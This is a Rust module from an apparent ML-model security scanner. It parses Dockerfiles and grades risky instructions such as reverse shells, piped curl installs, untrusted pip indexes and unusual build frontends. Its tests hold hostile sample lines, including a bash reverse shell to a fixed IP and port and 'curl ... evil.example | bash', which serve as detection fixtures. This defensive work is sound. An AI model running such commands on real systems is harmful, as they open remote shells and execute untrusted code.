//! Dockerfiles beside models (Spaces, BentoML, MLflow, KServe): what building and starting the image runs.

use modelaudit_command_lines::{Grade, POWERSHELL, REVERSE_SHELLS, SHELL, worst};
use modelaudit_plugin::{Artifact, Finding, Severity, Sink, quote};
use modelaudit_rules::configuration::S1032;
use modelaudit_rules::policy::{S1015, S1017};

use crate::{packages, redaction, settings};

/// Bytes read.
const LONGEST: u64 = 2 << 20;
/// Findings of one file.
const MOST: usize = 50;

/// Instructions, of which one must stand in sight besides `FROM`. Docker takes them in lower case, too, but there they are words of
/// other languages: such a file is told by its name.
const INSTRUCTIONS: &[&str] = &[
    "RUN",
    "COPY",
    "ADD",
    "CMD",
    "ENTRYPOINT",
    "ENV",
    "ARG",
    "WORKDIR",
    "EXPOSE",
    "USER",
    "VOLUME",
    "LABEL",
    "SHELL",
    "HEALTHCHECK",
    "ONBUILD",
    "STOPSIGNAL",
];

/// Options of pip that say where packages come from.
const PIP: &[&str] = &["--index-url", "--extra-index-url", "--trusted-host", "--find-links", "-i", "-f"];

/// Whether the first bytes are a Dockerfile: `FROM` or `ARG` first, then instructions line by line.
pub(crate) fn looks_like_dockerfile(head: &[u8]) -> bool {
    let text = String::from_utf8_lossy(head);
    let word = |line: &str| line.split_whitespace().next().unwrap_or_default().to_owned();
    let mut lines = text.lines().filter(|line| !line.trim().is_empty() && !line.trim_start().starts_with('#'));
    let Some(first) = lines.next().map(word) else { return false };
    let rest: Vec<String> = lines.map(word).collect();
    let from = first == "FROM" || (first == "ARG" && rest.iter().any(|word| word == "FROM"));
    from && rest.iter().any(|word| INSTRUCTIONS.contains(&word.as_str()))
}

/// An instruction with its continuation lines.
struct Instruction {
    word: String,
    text: String,
    offset: u64,
    length: u64,
}

/// Scans a Dockerfile.
pub(crate) fn scan(artifact: &dyn Artifact, sink: &mut dyn Sink) -> Result<(), String> {
    let Some((text, cut)) = crate::text(artifact, LONGEST) else {
        return Err("the Dockerfile is not UTF-8 text".to_owned());
    };
    let mut found = 0;
    for instruction in instructions(&text) {
        for finding in judge(&instruction) {
            found += 1;
            if found <= MOST {
                sink.finding(finding.at(instruction.offset, instruction.length).element(instruction.word.as_str()));
            }
        }
    }
    if found > MOST {
        sink.incomplete(&format!("{found} instructions fetch or run something unusual, {MOST} are shown"));
    }
    if cut { Err(format!("only the first {LONGEST} bytes of the Dockerfile were read")) } else { Ok(()) }
}

/// The instructions; a here-document belongs to the one that opens it.
fn instructions(text: &str) -> Vec<Instruction> {
    let mut out: Vec<Instruction> = Vec::new();
    let (mut offset, mut goes_on) = (0u64, false);
    let mut document: Option<String> = None;
    for line in text.split_inclusive('\n') {
        let start = offset;
        offset += line.len() as u64;
        let trimmed = line.trim();
        if let (Some(end), Some(last)) = (&document, out.last_mut()) {
            last.length = offset - last.offset;
            if trimmed == end {
                document = None;
            } else {
                last.text.push('\n');
                last.text.push_str(trimmed);
            }
            continue;
        }
        if trimmed.is_empty() || (trimmed.starts_with('#') && !(out.is_empty() && trimmed.contains('='))) {
            continue;
        }
        let body = trimmed.strip_suffix(['\\', '`']);
        let part = body.unwrap_or(trimmed);
        match out.last_mut() {
            Some(last) if goes_on => {
                last.text.push(' ');
                last.text.push_str(part);
                last.length = offset - last.offset;
            }
            _ => {
                let (word, rest) = match part.strip_prefix('#') {
                    Some(directive) => ("#", directive.trim()),
                    None => part.split_once(char::is_whitespace).unwrap_or((part, "")),
                };
                let (word, text) = (word.to_ascii_uppercase(), rest.trim().to_owned());
                out.push(Instruction { word, text, offset: start, length: line.trim_end().len() as u64 });
            }
        }
        goes_on = body.is_some();
        document = part.split_once("<<").and_then(|(_, rest)| {
            let name = rest.trim_start_matches(['-', '"', '\'']);
            let length = name.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'_').count();
            name.get(..length).filter(|name| !name.is_empty()).map(str::to_owned)
        });
    }
    out
}

fn judge(instruction: &Instruction) -> Vec<Finding> {
    let text = instruction.text.as_str();
    let shown = || quote(redaction::redacted(text).as_ref());
    let mut out = Vec::new();
    match instruction.word.as_str() {
        "#" => {
            if let Some(frontend) = text.strip_prefix("syntax").and_then(|rest| rest.trim_start().strip_prefix('=')) {
                let image = frontend.trim().trim_start_matches("docker.io/");
                if !image.starts_with("docker/dockerfile") && !image.starts_with("nvidia/") {
                    out.push(Finding::new(&S1032, format!("the build is done by the image {}", quote(image))));
                }
            }
        }
        "ADD" => {
            let from = text.split_whitespace().find(|word| word.starts_with("http://") || word.starts_with("ftp://"));
            if let Some(from) = from {
                let message = format!(
                    "the image takes a file over an unprotected connection: {}",
                    quote(redaction::redacted(from).as_ref())
                );
                out.push(Finding::new(&S1032, message));
            }
        }
        "ENV" | "ARG" => {
            for pair in text.split_whitespace().take(64) {
                let (key, value) = pair.split_once('=').unwrap_or((pair, ""));
                let value = if value.is_empty() { text.split_whitespace().nth(1).unwrap_or_default() } else { value };
                let truth = settings::truth(value.trim_matches(['"', '\'']));
                out.extend(truth.and_then(|truth| settings::judge(key, truth)).into_iter().take(1));
            }
        }
        "RUN" | "CMD" | "ENTRYPOINT" | "HEALTHCHECK" | "ONBUILD" | "SHELL" => {
            if text.contains("--security=insecure") {
                out.push(Finding::new(&S1032, format!("a build step runs without the builder's sandbox: {}", shown())));
            }
            if let Some(found) = worst(text, &[SHELL, REVERSE_SHELLS, POWERSHELL]) {
                let open = text.contains("http://") || packages::has_bare_address(text);
                let (rule, severity) = match found.command.grade {
                    Grade::Hostile => (&S1017, Severity::Critical),
                    Grade::Risky if open => (&S1032, Severity::Warning),
                    Grade::Risky => (&S1032, Severity::Info),
                };
                let line = quote(redaction::redacted(&found.line).as_ref());
                out.push(
                    Finding::new(rule, format!("building or starting the image {}: {line}", found.command.what))
                        .severity(severity),
                );
            }
            out.extend(pip(text));
        }
        _ => {}
    }
    out
}

/// Where pip takes packages from, if the text calls it.
fn pip(text: &str) -> Option<Finding> {
    if !text.contains("pip") && !text.contains("uv ") {
        return None;
    }
    let words: Vec<&str> = text.split([' ', '\t', '"', '\'', ',', '\n']).filter(|word| !word.is_empty()).collect();
    words.iter().enumerate().find_map(|(index, word)| {
        let (name, value) = word.split_once('=').unwrap_or((word, words.get(index + 1).copied().unwrap_or_default()));
        if !PIP.contains(&name) {
            return None;
        }
        let line = format!("{name} {value}");
        let reason = packages::requirement(&line)?;
        Some(Finding::new(&S1015, format!("{reason}: {}", quote(redaction::redacted(&line).as_ref()))))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn severities(text: &str) -> Vec<(&'static str, Severity)> {
        instructions(text).iter().flat_map(judge).map(|finding| (finding.rule, finding.severity)).collect()
    }

    #[test]
    fn instructions_are_read_whole() {
        let text = "# syntax=docker/dockerfile:1\nFROM a\nRUN x \\\n  # note\n  y\nRUN <<EOF\nz\nEOF\nCMD [\"w\"]\n";
        let list = instructions(text);
        let words: Vec<(&str, &str)> = list.iter().map(|i| (i.word.as_str(), i.text.as_str())).collect();
        assert_eq!(
            words,
            [
                ("#", "syntax=docker/dockerfile:1"),
                ("FROM", "a"),
                ("RUN", "x y"),
                ("RUN", "<<EOF\nz"),
                ("CMD", "[\"w\"]")
            ]
        );
    }

    #[test]
    fn what_builds_fetch_is_graded() {
        assert_eq!(severities("FROM a\nRUN curl -fsSL https://get.example | sh\n"), [("S1032", Severity::Info)]);
        assert_eq!(
            severities("FROM a\nRUN curl -s http://evil.example/x | \\\n bash\n"),
            [("S1032", Severity::Warning)]
        );
        assert_eq!(
            severities("FROM a\nCMD bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"),
            [("S1017", Severity::Critical)]
        );
        assert_eq!(
            severities("FROM a\nRUN pip install -i http://evil.example/simple x\n"),
            [("S1015", Severity::Warning)]
        );
        assert_eq!(severities("# syntax=evil.example/frontend\nFROM a\n"), [("S1032", Severity::Warning)]);
        assert_eq!(severities("FROM a\nENV VLLM_ALLOW_INSECURE_SERIALIZATION=1\n"), [("S1030", Severity::Warning)]);
        let usual = "# syntax=docker/dockerfile:1\nFROM python:3.11\nWORKDIR /app\nRUN apt-get update && apt-get install -y git && \\\n    rm -rf /var/lib/apt/lists/*\n\
                     RUN pip install --no-cache-dir -r requirements.txt --extra-index-url https://download.pytorch.org/whl/cpu\nADD https://a.example/x /x\nCMD [\"python\", \"app.py\"]\n";
        assert_eq!(severities(usual), []);
    }
}
